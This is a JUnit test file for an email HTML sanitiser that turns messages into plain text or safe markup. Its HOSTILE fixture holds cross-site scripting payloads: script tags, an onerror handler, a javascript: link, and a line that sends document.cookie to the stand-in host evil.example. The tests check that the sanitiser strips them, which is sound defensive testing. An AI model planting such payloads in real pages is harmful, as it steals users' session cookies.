package io.threadline.channel.email;

import org.junit.jupiter.api.Test;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

class HtmlTextTest {

    private static final String HOSTILE = """
            <html><head><title>Mail</title><style>p {color: red}</style><script>alert('head')</script></head>
            <body><p>Hello <b>team</b>,</p><p>the parcel is <i>late</i>.<br>Order 50231.</p>
            <script>document.location='https://evil.example/?c='+document.cookie</script>
            <img src="x" onerror="alert(1)">
            <ul><li>one</li><li>two</li></ul><a href="javascript:alert(2)">click</a></body></html>""";

    @Test
    void htmlBecomesReadableTextWithoutScriptsOrMarkup() {
        assertEquals("Hello team,\n\nthe parcel is late.\nOrder 50231.\n\n- one\n- two\nclick", HtmlText.toText(HOSTILE));
    }

    @Test
    void safeMarkupKeepsFormattingButNothingThatRuns() {
        String safe = HtmlText.safeMarkup(HOSTILE);
        assertTrue(safe.contains("<b>team</b>"), safe);
        assertFalse(safe.contains("<script"), safe);
        assertFalse(safe.contains("onerror"), safe);
        assertFalse(safe.contains("javascript:"), safe);
        assertFalse(safe.contains("alert"), safe);
    }
}
